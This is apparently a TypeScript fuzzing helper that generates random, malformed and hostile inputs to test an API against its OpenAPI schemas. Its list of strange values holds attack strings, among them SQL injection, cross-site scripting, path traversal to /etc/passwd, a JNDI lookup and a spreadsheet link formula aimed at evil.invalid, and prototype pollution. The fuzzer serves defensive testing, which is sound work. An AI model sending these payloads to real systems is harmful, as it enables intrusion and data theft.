/** A JSON Schema as the OpenAPI document holds it; only what our own document uses is read. */
export interface Schema {
  readonly $ref?: string;
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly additionalProperties?: boolean | Schema;
  readonly minimum?: number;
  readonly maximum?: number;
}

/** Makes values by chance: what a schema asks for, what it nearly asks for, and what nobody would send. */
export interface Fuzzer {
  whole(below: number): number;
  one<T>(of: readonly T[]): T;
  /** Whether something happens that happens in this share of all cases. */
  happens(share: number): boolean;
  /** A value for a member of this name: mostly of the schema's shape, with ids that exist where there are some. */
  value(schema: Schema, name: string): unknown;
  /** The text of a JSON document that holds the value, at times damaged. */
  document(value: unknown): string | Buffer;
}

const strange: readonly unknown[] = [
  null,
  0,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  true,
  '',
  ' ',
  [],
  {},
  [[[]]],
  { id: {} },
  '__proto__',
  'constructor',
  '\uD800',
  'a\u0000b',
  '\u202Egnp.exe',
  "'; DROP TABLE events; --",
  '=HYPERLINK("http://evil.invalid")',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '${jndi:ldap://evil.invalid}',
  '%00%2e%2e%2f',
  'NaN',
  '1e400',
  '-0',
  '0.1e2',
  '٣',
  '2026-13-45',
  '2026-02-30T25:61:61Z',
];

/** `known` gives values that exist, by the name of the member that takes them; `schemas` those that are referred to. */
export function createFuzzer(
  random: () => number,
  known: Readonly<Record<string, readonly unknown[]>>,
  schemas: Readonly<Record<string, Schema>> = {},
): Fuzzer {
  const whole = (below: number) => Math.floor(random() * below);
  const one = <T>(of: readonly T[]): T => of[whole(of.length)] as T;
  const happens = (share: number) => random() < share;
  const text = () =>
    String.fromCodePoint(
      ...Array.from({ length: whole(40) }, () => one([48, 65, 97, 0xe9, 0x1f600]) + whole(26)),
    );

  const shapes: Readonly<Record<string, (schema: Schema) => unknown>> = {
    string: () => text(),
    integer: ({ minimum = -10, maximum = 1_000 }) => minimum + whole(Math.min(maximum - minimum + 1, 2_000)),
    number: () => (random() - 0.5) * 1_000,
    boolean: () => happens(0.5),
    null: () => null,
    array: ({ items = {} }) => Array.from({ length: whole(4) }, () => value(items, '')),
    object: ({ properties = {}, required = [], additionalProperties }) => {
      const names = Object.keys(properties).filter((name) => required.includes(name) || happens(0.5));
      const entries = names.map((name) => [name, value(properties[name] ?? {}, name)] as const);
      if (typeof additionalProperties === 'object')
        entries.push([one(['GBP', '*', 'EUR', text()]), value(additionalProperties, 'amount')]);
      if (happens(0.1)) entries.push([one(['__proto__', 'toString', 'extra', text()]), one(strange)]);
      return Object.fromEntries(entries);
    },
  };
  const value = (schema: Schema, name: string): unknown => {
    if (happens(0.06)) return one(strange);
    if (happens(0.004)) return 'x'.repeat(whole(200_000));
    const existing = known[name];
    if (existing && happens(0.7)) return one(existing);
    if (schema.$ref !== undefined)
      return value(schemas[schema.$ref.replace('#/components/schemas/', '')] ?? {}, name);
    const options = schema.anyOf ?? schema.oneOf;
    if (options) return value(one(options), name);
    if ('const' in schema) return schema.const;
    if (schema.enum) return one(schema.enum);
    const type = typeof schema.type === 'string' ? schema.type : one(schema.type ?? Object.keys(shapes));
    return shapes[type]?.(schema);
  };
  const nested = () => {
    const depth = 1_000 + whole(50_000);
    return happens(0.5) ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth);
  };
  const damaged: readonly ((whole: string) => string | Buffer)[] = [
    (document) => document.slice(0, whole(document.length)),
    (document) => `${document}${document}`,
    (document) => document.replace('{', '{"__proto__":{"polluted":true},'),
    (document) => document.replaceAll('"', "'"),
    (document) => Buffer.concat([Buffer.from(document), Buffer.from([0xff, 0xfe, 0x00])]),
    () => Buffer.from(Array.from({ length: whole(300) }, () => whole(256))),
    () => '',
    nested,
  ];
  return {
    whole,
    one,
    happens,
    value,
    document: (content) => {
      const document = JSON.stringify(content) ?? '';
      return happens(0.05) ? one(damaged)(document) : document;
    },
  };
}
